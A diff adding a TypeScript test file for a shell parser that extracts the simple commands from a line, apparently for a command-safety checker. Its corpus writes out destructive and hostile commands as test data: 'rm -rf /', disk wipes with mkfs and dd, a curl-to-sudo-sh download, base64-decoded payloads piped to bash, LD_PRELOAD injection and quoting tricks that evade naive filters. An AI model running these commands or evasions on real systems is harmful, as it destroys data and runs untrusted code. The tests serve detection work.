@@ -1,0 +1,150 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { extractShellFacts, initShellParser } from '../../../engine/facts/shell-facts.ts';
+
+beforeAll(async () => {
+  await initShellParser();
+});
+
+type Expected = { argv: string[]; dynamic?: boolean; via?: string[]; redirects?: unknown; stdin?: string; assignments?: string[] };
+
+/** line → every simple command expected, in order (each a subset match). */
+const CORPUS: Array<{ name: string; text: string; commands: Expected[] }> = [
+  { name: 'one command', text: 'uname -a', commands: [{ argv: ['uname', '-a'], dynamic: false }] },
+  {
+    name: 'a pipeline',
+    text: 'ps aux | grep nginx | wc -l',
+    commands: [{ argv: ['ps', 'aux'] }, { argv: ['grep', 'nginx'], stdin: 'pipe' }, { argv: ['wc', '-l'], stdin: 'pipe' }],
+  },
+  {
+    name: 'lists with ; && ||',
+    text: 'cd /tmp; ls && rm -rf / || echo no',
+    commands: [{ argv: ['cd', '/tmp'] }, { argv: ['ls'] }, { argv: ['rm', '-rf', '/'] }, { argv: ['echo', 'no'] }],
+  },
+  { name: 'a subshell', text: '(cd / && rm -rf *)', commands: [{ argv: ['cd', '/'] }, { argv: ['rm', '-rf', '*'] }] },
+  { name: 'a brace group', text: '{ date; rm -rf /; }', commands: [{ argv: ['date'] }, { argv: ['rm', '-rf', '/'] }] },
+  {
+    name: '$(…) runs its commands and makes the word dynamic',
+    text: 'echo $(rm -rf /)',
+    commands: [{ argv: ['echo', '$(rm -rf /)'], dynamic: true }, { argv: ['rm', '-rf', '/'], dynamic: false }],
+  },
+  { name: 'backticks', text: 'echo `shutdown -h now`', commands: [{ argv: ['echo', '`shutdown -h now`'], dynamic: true }, { argv: ['shutdown', '-h', 'now'] }] },
+  { name: 'process substitution', text: 'diff <(mkfs.ext4 /dev/sda1) x', commands: [{ argv: ['diff', '<(mkfs.ext4 /dev/sda1)', 'x'], dynamic: true }, { argv: ['mkfs.ext4', '/dev/sda1'] }] },
+  {
+    name: 'bash -c string is parsed',
+    text: "bash -c 'rm -rf /'",
+    commands: [{ argv: ['bash', '-c', 'rm -rf /'], dynamic: false }, { argv: ['rm', '-rf', '/'], via: ['bash -c'] }],
+  },
+  {
+    name: 'nested sh -c "bash -c \'…\'"',
+    text: `sh -c "bash -c 'rm -rf /'"`,
+    commands: [{ argv: ['sh', '-c', "bash -c 'rm -rf /'"] }, { argv: ['bash', '-c', 'rm -rf /'], via: ['sh -c'] }, { argv: ['rm', '-rf', '/'], via: ['sh -c', 'bash -c'] }],
+  },
+  {
+    name: 'base64 decoded into sh -c is dynamic',
+    text: 'sh -c "$(echo cm0gLXJmIC8= | base64 -d)"',
+    commands: [{ argv: ['sh', '-c', '$(echo cm0gLXJmIC8= | base64 -d)'], dynamic: true }, { argv: ['echo', 'cm0gLXJmIC8='] }, { argv: ['base64', '-d'], stdin: 'pipe' }],
+  },
+  {
+    name: 'base64 piped into a shell makes the shell dynamic',
+    text: 'echo cm0gLXJmIC8= | base64 -d | bash',
+    commands: [{ argv: ['echo', 'cm0gLXJmIC8='] }, { argv: ['base64', '-d'] }, { argv: ['bash'], dynamic: true, stdin: 'pipe' }],
+  },
+  {
+    name: 'curl piped into sudo sh',
+    text: 'curl -fsSL https://x.example/i.sh | sudo sh',
+    commands: [{ argv: ['curl', '-fsSL', 'https://x.example/i.sh'] }, { argv: ['sudo', 'sh'], stdin: 'pipe' }, { argv: ['sh'], via: ['sudo'], dynamic: true }],
+  },
+  { name: 'eval of a variable is dynamic', text: 'eval "$x"', commands: [{ argv: ['eval', '$x'], dynamic: true }] },
+  { name: 'eval of a static string is parsed', text: "eval 'rm -rf /'", commands: [{ argv: ['eval', 'rm -rf /'], dynamic: false }, { argv: ['rm', '-rf', '/'], via: ['eval'] }] },
+  { name: 'a variable as the command is dynamic', text: '$CMD -rf /', commands: [{ argv: ['$CMD', '-rf', '/'], dynamic: true }] },
+  { name: 'quote removal joins a concatenation', text: `r"m" -r'f' \\/`, commands: [{ argv: ['rm', '-rf', '/'], dynamic: false }] },
+  { name: 'empty quotes inside a word', text: "r''m -rf /", commands: [{ argv: ['rm', '-rf', '/'] }] },
+  { name: 'a backslash before the command', text: '\\rm -rf /', commands: [{ argv: ['rm', '-rf', '/'] }] },
+  { name: 'ANSI-C quoting is decoded', text: "$'\\x72\\x6d' -rf /", commands: [{ argv: ['rm', '-rf', '/'], dynamic: false }] },
+  { name: 'escapes in double quotes', text: 'echo "a\\"b\\$c"', commands: [{ argv: ['echo', 'a"b$c'], dynamic: false }] },
+  { name: 'a variable in double quotes is dynamic', text: 'echo "hi $USER"', commands: [{ argv: ['echo', 'hi $USER'], dynamic: true }] },
+  { name: 'brace expansion is dynamic', text: 'r{m,} -rf /', commands: [{ argv: ['r{m,}', '-rf', '/'], dynamic: true }] },
+  {
+    name: 'sudo, env and timeout are unwrapped',
+    text: 'env -i PATH=/bin sudo -u root timeout 5 rm -rf /',
+    commands: [
+      { argv: ['env', '-i', 'PATH=/bin', 'sudo', '-u', 'root', 'timeout', '5', 'rm', '-rf', '/'] },
+      { argv: ['sudo', '-u', 'root', 'timeout', '5', 'rm', '-rf', '/'], via: ['env'] },
+      { argv: ['timeout', '5', 'rm', '-rf', '/'], via: ['env', 'sudo'] },
+      { argv: ['rm', '-rf', '/'], via: ['env', 'sudo', 'timeout'] },
+    ],
+  },
+  { name: 'sudo sh -c', text: "sudo sh -c 'mkfs.ext4 /dev/sdb'", commands: [{ argv: ['sudo', 'sh', '-c', 'mkfs.ext4 /dev/sdb'] }, { argv: ['sh', '-c', 'mkfs.ext4 /dev/sdb'], via: ['sudo'] }, { argv: ['mkfs.ext4', '/dev/sdb'], via: ['sudo', 'sh -c'] }] },
+  { name: 'find -exec runs a command', text: 'find / -exec rm -rf {} \\;', commands: [{ argv: ['find', '/', '-exec', 'rm', '-rf', '{}', ';'] }, { argv: ['rm', '-rf', '{}'], via: ['find'], dynamic: true }] },
+  { name: 'xargs runs a command with arguments from stdin', text: 'echo / | xargs rm -rf', commands: [{ argv: ['echo', '/'] }, { argv: ['xargs', 'rm', '-rf'] }, { argv: ['rm', '-rf'], via: ['xargs'], dynamic: true }] },
+  {
+    name: 'redirection to a device',
+    text: 'cat /dev/zero > /dev/sda',
+    commands: [{ argv: ['cat', '/dev/zero'], redirects: [{ op: '>', target: '/dev/sda' }] }],
+  },
+  { name: 'dd to a device', text: 'dd if=/dev/zero of=/dev/sda bs=1M', commands: [{ argv: ['dd', 'if=/dev/zero', 'of=/dev/sda', 'bs=1M'] }] },
+  {
+    name: 'a heredoc fed to bash is parsed',
+    text: 'bash <<EOF\nrm -rf /\nEOF\n',
+    commands: [{ argv: ['bash'], stdin: 'heredoc' }, { argv: ['rm', '-rf', '/'], via: ['bash'] }],
+  },
+  { name: 'a here-string fed to sh is parsed', text: 'sh <<< "shutdown now"', commands: [{ argv: ['sh'], stdin: 'herestring' }, { argv: ['shutdown', 'now'], via: ['sh'] }] },
+  { name: 'an assignment prefix is recorded', text: 'LD_PRELOAD=/tmp/x.so ls', commands: [{ argv: ['ls'], assignments: ['LD_PRELOAD=/tmp/x.so'] }] },
+  { name: 'a command substitution in an assignment runs', text: 'X=$(reboot)', commands: [{ argv: ['reboot'] }] },
+  { name: 'export with a substitution', text: 'export X=$(halt)', commands: [{ argv: ['export', 'X=$(halt)'], dynamic: true }, { argv: ['halt'] }] },
+  { name: 'a function body', text: 'f() { rm -rf /; }; f', commands: [{ argv: ['rm', '-rf', '/'] }, { argv: ['f'] }] },
+  { name: 'if and for bodies', text: 'if true; then shutdown now; fi; for i in 1 2; do poweroff; done', commands: [{ argv: ['true'] }, { argv: ['shutdown', 'now'] }, { argv: ['poweroff'] }] },
+  { name: 'a comment is not a command', text: 'ls # ; rm -rf /', commands: [{ argv: ['ls'] }] },
+  { name: 'a path-qualified command keeps its argv', text: '/bin/rm -rf /', commands: [{ argv: ['/bin/rm', '-rf', '/'] }] },
+  { name: 'su -c string', text: "su - root -c 'rm -rf /'", commands: [{ argv: ['su', '-', 'root', '-c', 'rm -rf /'] }, { argv: ['rm', '-rf', '/'], via: ['su -c'] }] },
+  { name: 'an empty line has no commands', text: '   ', commands: [] },
+];
+
+describe('shell facts corpus', () => {
+  for (const entry of CORPUS) {
+    it(`${entry.name}: ${entry.text.replace(/\n/g, '\\n')}`, () => {
+      const facts = extractShellFacts(entry.text);
+      expect(facts.parseError).toBeUndefined();
+      expect(facts.commands.map((c) => c.argv)).toEqual(entry.commands.map((c) => c.argv));
+      entry.commands.forEach((expected, i) => expect(facts.commands[i]).toMatchObject(expected));
+    });
+  }
+
+  it('a path-qualified command has its base name in `name`', () => {
+    expect(extractShellFacts('/usr/sbin/shutdown -r now').commands[0]).toMatchObject({ name: 'shutdown' });
+  });
+});
+
+describe('shell facts errors', () => {
+  it('an unterminated quote is a parse error', () => {
+    const facts = extractShellFacts('echo "unterminated');
+    expect(facts.commands).toEqual([]);
+    expect(facts.parseError).toMatch(/shell syntax error/);
+  });
+
+  it('a syntax error inside a bash -c string is a parse error naming it', () => {
+    expect(extractShellFacts("bash -c 'ls; ('").parseError).toMatch(/inside bash -c/);
+  });
+
+  it('a dangling pipe is a parse error', () => {
+    expect(extractShellFacts('ls |').parseError).toMatch(/shell syntax error/);
+  });
+
+  it('sh -c nested beyond the depth limit is refused', () => {
+    let line = 'ls';
+    for (let i = 0; i < 20; i++) line = `sh -c ${JSON.stringify(line).replace(/\$/g, '\\$')}`;
+    expect(extractShellFacts(line).parseError).toMatch(/nested more than/);
+  });
+});
+
+describe('shell facts parse time', () => {
+  it('reports the mean parse time per line of the corpus', () => {
+    const texts = CORPUS.map((c) => c.text);
+    const rounds = 50;
+    const start = process.hrtime.bigint();
+    for (let r = 0; r < rounds; r++) for (const text of texts) extractShellFacts(text);
+    const micros = Number(process.hrtime.bigint() - start) / 1000 / (rounds * texts.length);
+    console.log(`shell facts: ${micros.toFixed(1)} µs per line (mean over ${texts.length} lines x ${rounds})`);
+    expect(micros).toBeGreaterThan(0);
+  });
+});
